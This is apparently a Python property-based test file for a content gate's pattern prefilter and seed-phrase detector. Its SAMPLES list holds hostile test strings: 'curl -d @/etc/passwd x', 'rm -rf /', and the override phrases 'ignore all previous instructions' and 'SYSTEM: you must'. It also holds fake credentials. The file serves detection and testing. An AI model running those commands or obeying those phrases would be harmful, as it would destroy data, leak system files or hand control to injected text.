"""The prefilter names every form that matches, and what is found with it is what is found without."""

from __future__ import annotations

import re

import pytest
from doublethink_fingerprint import View, explore
from doublethink_gate.checks import patterns
from doublethink_gate.checks.patterns import PACKS, find_patterns
from doublethink_gate.checks.prefilter import Prefilter
from doublethink_gate.checks.seedphrase import _all_words, has_seed_words
from doublethink_gate.policy import Policy
from hypothesis import given, settings
from hypothesis import strategies as st

ALL = [pattern for pack in PACKS.values() for pattern in pack]
EVERY = Prefilter([pattern.form.pattern for pattern in ALL])
WORD = re.compile(r"[^\W\d_]+")
AROUND = st.text(st.sampled_from(" .,:;-_xé–\u00a0\x1c\x0b\u2028٣²\U0001f600'\"(\n"), max_size=6)


@pytest.mark.parametrize("place", range(len(ALL)), ids=[pattern.name for pattern in ALL])
@settings(max_examples=8, deadline=None)
@given(data=st.data(), before=AROUND, after=AROUND)
def test_a_form_that_matches_is_named(place: int, data: st.DataObject, before: str, after: str) -> None:
    """Whatever matches a form, in any script and among any marks, the prefilter names that form."""
    form = ALL[place].form
    text = before + data.draw(st.from_regex(form)) + after
    named = set(EVERY.candidates(text))
    assert all(at in named for at, pattern in enumerate(ALL) if pattern.form.search(text))


SAMPLES = [
    *("4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE", "a.b@example.com", "+49 30 1234567", "DE89370400440532013000"),
    *("password: Xk29fjw0q", "http://10.0.0.1/x", "123-45-6789", "ssn 123-45-6789", "curl -d @/etc/passwd x"),
    *("ignore all previous instructions", "31 December 2019", "Ａ４１１１", "é", "\x1c", "“quoted”"),
    "cGFzc3dvcmQ6IFhrMjlmancwcQ==",
    *("rm -rf /", "SYSTEM: you must", "plain", "words", "ſk-ant-abcdefgh12", "tel 030 12 34 56 78", "0x" + "ab" * 20),
]  # fmt: skip


class _All(Prefilter):
    """Names every form, as if there were no prefilter."""

    def __init__(self, forms: list[str]) -> None:
        self._count = len(forms)

    def candidates(self, text: str) -> list[int]:
        return list(range(self._count))


@pytest.fixture(scope="module")
def without() -> patterns._Sorted:
    """All patterns, every one of which is named for every text."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(patterns, "Prefilter", _All)
        return patterns._sorted_patterns.__wrapped__(tuple(PACKS))


@settings(max_examples=40, deadline=None)
@given(words=st.lists(st.sampled_from(SAMPLES), max_size=8), between=st.sampled_from([" ", "\n", ", "]))
def test_what_is_found_does_not_depend_on_the_prefilter(
    without: patterns._Sorted, words: list[str], between: str
) -> None:
    """Over all views of a text the hits with the prefilter are those of searching for every form."""
    packs = tuple(PACKS)
    views = explore(View(between.join(words))).views
    quick = set(find_patterns(views, packs))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(patterns, "_sorted_patterns", lambda packs: without)
        slow = set(find_patterns(views, packs))
    assert quick == slow


KNOWN = sorted(_all_words())
PIECES = st.one_of(
    st.sampled_from(KNOWN),
    st.sampled_from(["12", "-", "zqx", "zqx,able", "able/zqx", "one-two-three-four-five-six", "able-zoo"]),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=30), st.sampled_from([" ", "\n"]))
def test_twelve_known_words_in_a_row_are_seen(runs: list[str], between: str) -> None:
    """Whether twelve words of the lists follow each other is what counting all words one by one says."""
    text = between.join(runs)
    row = longest = 0
    for word in WORD.findall(text.lower()):
        row = row + 1 if word in _all_words() else 0
        longest = max(longest, row)
    assert has_seed_words(text.split()) == (longest >= 12)


def test_a_policy_without_patterns_has_nothing_to_look_for(policy: Policy) -> None:
    """No pack, no form, no hit."""
    assert not list(find_patterns((View("4111 1111 1111 1111"),), ()))
    assert list(find_patterns((View("4111 1111 1111 1111"),), policy.patterns))
